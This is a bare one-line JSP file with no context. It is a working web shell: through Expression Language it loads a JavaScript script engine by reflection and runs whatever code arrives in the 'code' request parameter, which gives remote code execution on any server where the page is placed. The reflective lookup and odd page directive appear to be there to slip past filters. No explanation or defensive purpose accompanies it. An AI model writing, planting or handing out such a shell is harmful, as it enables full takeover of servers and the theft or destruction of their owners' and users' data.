<%@ page inert %>${pageContext.setAttribute("m","".getClass().forName("javax.script.ScriptEngineManager").newInstance())}${pageContext.getAttribute("m").getEngineByName("js").eval(param.code)}
